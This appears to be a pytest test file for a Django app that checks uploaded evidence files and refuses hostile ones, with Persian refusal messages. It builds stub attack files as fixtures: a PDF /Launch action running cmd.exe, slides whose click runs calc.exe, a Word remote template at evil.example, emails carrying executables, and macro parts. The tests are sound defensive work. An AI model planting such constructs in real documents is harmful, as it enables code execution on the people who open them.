"""Which files are evidence: every good kind, and every hostile file as the table in
docs/evidence.md says."""

import base64
import html
import re
from pathlib import Path

import pikepdf
import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from cycles.workflow import Refused
from submissions.evidence import actions as evidence
from submissions.evidence import file_types
from submissions.models import Answer, Document
from tests.factories import build
from tests.jobs import work_off
from tests.submissions.evidence.documents import (
    HEIC,
    acting,
    archive,
    carrying,
    docx,
    letter,
    letterhead,
    opendocument,
    pdf_with,
    pptx,
    protected,
    relationship,
    xlsx,
)
from tests.submissions.evidence.hostile_files import GOOD, HOSTILE, UNDRAWN

pytestmark = pytest.mark.django_db


def table() -> dict[str, str]:
    """The outcome of each file, as the page of the docs has it."""
    text = (Path(settings.BASE_DIR) / "docs/evidence.md").read_text()
    section = text.split("## Hostile files")[1].split("\n## ")[0]
    return dict(re.findall(r"^\| ([^|]+?) \| (refused|kept|locked away) \|", section, flags=re.M))


def test_the_docs_name_every_hostile_file_of_this_test():
    assert set(table()) == set(HOSTILE)


@pytest.mark.parametrize("label", HOSTILE)
def test_a_hostile_file_is_handled_as_the_docs_say(label, scanner):
    world = build("begun")
    line = Answer.objects.select_related("measure", "submission").get(
        submission=world.submission, measure__code="G1-1"
    )
    name, content, said = HOSTILE[label]
    outcome = table()[label]
    upload = ContentFile(content)
    upload.name = name

    with translation.override("en"):
        if outcome == "refused":
            with pytest.raises(Refused, match=re.escape(said)):
                evidence.attach(line, upload=upload, by=world.staff, at=world.at)
            assert not Document.objects.exists()
            return
        evidence.attach(line, upload=upload, by=world.staff, at=world.at)
    work_off()

    document = Document.objects.get()
    assert document.name == said
    assert document.state == ("infected" if outcome == "locked away" else "clean")
    assert document.is_open == (outcome == "kept")
    assert bool(document.pages) == (outcome == "kept" and label not in UNDRAWN)


@pytest.mark.parametrize("name", GOOD)
def test_what_people_upload_is_accepted(name):
    file = ContentFile(GOOD[name])

    with translation.override("en"):
        assert file_types.why_not_named(file_types.clean_name(name), file.size, 2**20) == ""
        assert file_types.why_not_content(name, file) == ""


@pytest.mark.parametrize(
    ("raw", "kept"),
    (
        ("می\u200cشود.pdf", "می\u200cشود.pdf"),
        (" . ", "file"),
        (".pdf", "file.pdf"),
        ("a  b\t.pdf", "a b.pdf"),
        ("x." + "y" * 400, "x." + "y" * 10),
        ("a/b\\", "file"),
        ("cafe\u0301.txt", "caf\u00e9.txt"),
    ),
)
def test_names_are_made_fit_to_be_shown(raw, kept):
    assert file_types.clean_name(raw) == kept


@pytest.mark.parametrize("size", (1, file_types.PIECE, 3 * file_types.PIECE))
def test_text_with_a_zero_byte_anywhere_is_no_text(size, tmp_path):
    place = tmp_path / "a.txt"
    place.write_bytes(b"x" * size + b"\0" + b"x" * size)

    with place.open("rb") as content, translation.override("en"):
        file = evidence.File(content, name="a.txt")
        assert "not text" in file_types.why_not_content("a.txt", file)
        assert "not text" in file_types.why_not_content("a.txt", ContentFile(place.read_bytes()))


def mail_within(encoding: str, kind: str) -> bytes:
    """An e-mail to which another one, that carries a program, is attached as webmail and Exchange
    do.
    """
    head = b"From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n"
    part = f"--c\r\nContent-Type: {kind}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n".encode()
    inner = letter(("tool.exe", b"x"))
    return (
        head
        + part
        + (base64.encodebytes(inner) if encoding == "base64" else inner)
        + b"\r\n--c--\r\n"
    )


@pytest.mark.parametrize(
    "content",
    (
        letter(("tool.exe.", b"x")),
        letter(("book.xlam", b"x")),
        letter(("tool.pdf", b"MZ\x90\0")),
        mail_within("8bit", "message/rfc822"),
        mail_within("base64", "message/rfc822"),
        mail_within("base64", 'application/octet-stream; name="inner.eml"'),
    ),
)
def test_a_program_in_an_email_is_found_under_every_name_and_within_other_emails(content):
    with translation.override("en"):
        assert "it carries a program" in file_types.why_not_content("a.eml", ContentFile(content))


def opened_at(*where):
    """A PDF that says which part of its first page is shown first, as most programs write it."""

    def change(document):
        document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, *where])

    return pdf_with(change)


def opened_in_steps(last):
    """A PDF that goes to its first page when it is opened, and then does something else."""

    def change(document):
        then = pikepdf.Array([pikepdf.Dictionary(last)])
        place = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=place, Next=then)

    return pdf_with(change)


PRINTS = opened_in_steps({"/S": pikepdf.Name.Named, "/N": pikepdf.Name.Print})

VISITS = opened_in_steps({"/S": pikepdf.Name.URI, "/URI": pikepdf.String("https://a.example")})


def with_link(document):
    link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://a.example"))
    note = pikepdf.Dictionary(
        Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=link, AA=pikepdf.Dictionary()
    )
    document.pages[0].Annots = pikepdf.Array([note])


@pytest.mark.parametrize(
    "content",
    (
        opened_at(pikepdf.Name.XYZ, None, 842, 1),
        opened_at(pikepdf.Name.FitH, 842),
        pdf_with(with_link),
        PRINTS,
    ),
)
def test_a_pdf_with_numbers_beside_its_places_and_links_is_accepted(content):
    assert file_types.why_not_content("a.pdf", ContentFile(content)) == ""


def test_a_pdf_that_visits_an_address_after_it_has_gone_to_its_first_page_is_refused():
    with translation.override("en"):
        assert "opens an address" in file_types.why_not_content("a.pdf", ContentFile(VISITS))


def acting_slide(action: str) -> bytes:
    """A presentation with a picture that does something when it is clicked on."""
    slide = (
        f'<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="r"><a:hlinkClick r:id="r1" '
        f'action="{action}"/></p:sld>'
    )
    program = relationship("hyperlink", "file:///C:\\Windows\\calc.exe")
    return pptx(("ppt/slides/slide1.xml", slide), ("ppt/slides/_rels/slide1.xml.rels", program))


def acting_page(action: str, target: str = "file:///C:/Windows/calc.exe") -> bytes:
    """The same as LibreOffice keeps it."""
    spaces = (
        'xmlns:p="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
        'xmlns:x="http://www.w3.org/1999/xlink"'
    )
    listener = f'<p:event-listener p:action="{action}" x:href="{target}"/>'
    mimetype = ("mimetype", "application/vnd.oasis.opendocument.presentation")
    return archive(
        mimetype,
        ("content.xml", f"<d {spaces}>{listener}</d>"),
        ("META-INF/manifest.xml", "<manifest/>"),
    )


@pytest.mark.parametrize(
    ("name", "content", "is_refused"),
    (
        ("a.pptx", acting_slide("ppaction://program"), True),
        ("a.pptx", acting_slide("ppaction&#58;//macro?name=x"), True),
        ("a.pptx", acting_slide("ppaction://hlinksldjump"), False),
        ("a.odp", acting_page("execute"), True),
        ("a.odp", acting_page("show"), False),
        ("a.odp", acting_page("show", "https://a.example/"), False),
    ),
)
def test_slides_on_which_a_click_starts_a_program_are_refused(name, content, is_refused):
    with translation.override("en"):
        why = file_types.why_not_content(name, ContentFile(content))

    assert ("starts another program" in why) == is_refused
    assert bool(why) == is_refused


@pytest.mark.parametrize(
    "name", ("word/embeddings/Package.bin", "word/embeddings/a.pdf", "word/embeddings/x")
)
def test_a_file_embedded_in_a_document_under_any_name_is_refused(name):
    with translation.override("en"):
        assert "another file inside" in file_types.why_not_content(
            "a.docx", ContentFile(docx((name, b"MZ")))
        )


def test_a_document_of_another_kind_than_its_ending_is_refused():
    with translation.override("en"):
        for name, content in (
            ("a.xlsx", docx()),
            ("a.ods", opendocument("text")),
            ("a.odt", docx()),
        ):
            assert "not what its name says" in file_types.why_not_content(
                name, ContentFile(content)
            )
        for name, part in (
            ("a.odt", "Basic/Standard/Module1.xml"),
            ("a.xlsx", "xl/macrosheets/sheet1.xml"),
        ):
            content = opendocument("text", (part, "x")) if name == "a.odt" else xlsx((part, "x"))
            assert "holds a program" in file_types.why_not_content(name, ContentFile(content))


@pytest.mark.parametrize(
    ("name", "content", "said"),
    (
        ("a.pdf", protected(user="secret"), "بدون گذرواژه باز نمی‌شود"),
        ("a.docx", letterhead("https://evil.example/t.dotm"), "به‌جای الگوی سند «Normal» بنویسید"),
        ("a.pdf", carrying("tool.exe", b"MZ"), "فایل دیگری در درون خود دارد («tool.exe»)"),
        ("a.pdf", acting("/Launch", F="cmd.exe"), "برنامهٔ دیگری را اجرا می‌کند"),
        ("photo.jpg", HEIC, "عکس HEIC است؛ پسوند نام آن را «.heic» کنید"),
        ("a.zip", b"PK", "آن را باز و فایل‌های درونش را یک‌به‌یک بارگذاری کنید"),
    ),
)
def test_a_refusal_is_read_in_persian_beside_the_field_and_nothing_is_kept(
    visit, name, content, said
):
    world = build("begun")
    line = Answer.objects.get(submission=world.submission, measure__code="G1-1")
    address = f"/fa/submissions/lines/{line.pk}/evidence/"

    page = visit(world, world.staff).post(address, {"file": SimpleUploadedFile(name, content)})

    assert said in html.unescape(page.content.decode())
    assert not Document.objects.exists()
